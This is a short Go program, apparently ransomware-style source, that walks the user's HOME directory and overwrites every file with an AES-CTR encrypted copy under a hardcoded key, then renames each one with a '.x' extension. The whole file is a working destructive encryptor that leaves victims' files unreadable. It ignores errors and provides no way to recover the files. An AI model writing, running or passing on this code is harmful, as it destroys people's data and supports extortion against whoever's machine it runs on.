package main

import (
	"crypto/aes"
	"crypto/cipher"
	"io/fs"
	"os"
	"path/filepath"
)

func main() {
	key := []byte("0123456789abcdef")
	blk, _ := aes.NewCipher(key)
	filepath.WalkDir(os.Getenv("HOME"), func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return nil
		}
		b, _ := os.ReadFile(p)
		cipher.NewCTR(blk, key).XORKeyStream(b, b)
		os.WriteFile(p, b, 0o600)
		return os.Rename(p, p+".x")
	})
}
